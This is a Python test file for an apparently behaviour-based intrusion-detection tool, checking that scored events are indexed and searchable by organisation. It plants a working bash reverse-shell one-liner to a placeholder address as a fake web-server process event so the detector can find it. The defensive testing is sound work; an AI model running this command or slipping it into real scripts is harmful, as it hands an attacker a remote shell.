"""`ruleless search` over the behaviours a `ruleless score --state DIR` run indexed
(the running system's index is searched in tests/sinks/test_indexer.py)."""

from __future__ import annotations

import json
from pathlib import Path

from schemas.events import RawEvent, encode
from tests.factories import fleet_stream
from tests.ruleless.test_cli import run

REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def test_score_state_writes_the_index_that_search_reads(tmp_path: Path) -> None:
    events = fleet_stream(pairs=3, per_pair=150, seed=4)
    last = events[-1]
    shell = RawEvent(ts=last.ts + 1, org_id=last.org_id, workload=last.workload, host=last.host, event_id="planted",
                     process_name="bash", parent_process="php-fpm", cmdline=REVERSE_SHELL)  # fmt: skip
    src = tmp_path / "in.jsonl"
    src.write_bytes(b"\n".join(encode(e) for e in [*events, shell]) + b"\n")
    state = tmp_path / "state"
    scored = run("score", "-i", str(src), "-o", str(tmp_path / "out.jsonl"), "--state", str(state))
    assert scored.returncode == 0, scored.stderr
    assert b"new behaviours in the search index" in scored.stderr

    found = run("search", "reverse shell", "--json", "--lancedb", str(state), "-n", "3")
    assert found.returncode == 0, found.stderr
    hits = [json.loads(line) for line in found.stdout.splitlines()]
    assert len(hits) == 3 and hits[0]["cmdline"] == REVERSE_SHELL, hits
    assert hits[0]["org_id"] == last.org_id and hits[0]["workload"] == last.workload
    assert hits[0]["score"] >= hits[1]["score"] >= hits[2]["score"] and 0 <= hits[2]["score"] <= 1
    assert hits[0]["count"] == 1

    mine = run("search", "reverse shell", "--json", "--lancedb", str(state), "--org", last.org_id)
    assert {json.loads(line)["org_id"] for line in mine.stdout.splitlines()} == {last.org_id}
    other = run("search", "reverse shell", "--json", "--lancedb", str(state), "--org", "nobody")
    assert other.returncode == 0 and other.stdout == b""
    table = run("search", "reverse shell", "--lancedb", str(state), "-n", "2")
    assert table.returncode == 0 and b"/dev/tcp" in table.stdout

    # A second run over the same events adds no behaviour, only counts.
    again = run("score", "-i", str(src), "-o", str(tmp_path / "out2.jsonl"), "--state", str(state))
    assert b"; 0 new behaviours" in again.stderr
    hit = json.loads(run("search", "reverse shell", "--json", "--lancedb", str(state), "-n", "1").stdout)
    assert hit["count"] == 2


def test_score_state_without_index_keeps_the_shards_and_writes_no_index(tmp_path: Path) -> None:
    """`--no-index` is for inputs with so many distinct behaviours that embedding them
    would take long: the shard state is written, the search index is not."""
    events = fleet_stream(pairs=2, per_pair=50, seed=6)
    src = tmp_path / "in.jsonl"
    src.write_bytes(b"\n".join(encode(e) for e in events) + b"\n")
    state = tmp_path / "state"
    scored = run("score", "-i", str(src), "-o", str(tmp_path / "out.jsonl"), "--state", str(state), "--no-index")
    assert scored.returncode == 0, scored.stderr
    assert b"search index" not in scored.stderr
    found = run("search", "anything", "--json", "--lancedb", str(state))
    assert found.returncode == 0 and found.stdout == b"" and b"no behaviours indexed" in found.stderr, found.stderr
    again = run("score", "-i", str(src), "-o", str(tmp_path / "out2.jsonl"), "--state", str(state), "--no-index")
    assert again.returncode == 0, again.stderr
    first = [json.loads(line)["score"] for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    second = [json.loads(line)["score"] for line in (tmp_path / "out2.jsonl").read_text().splitlines()]
    assert sum(second) < sum(first)  # the second run scored on the learned shards
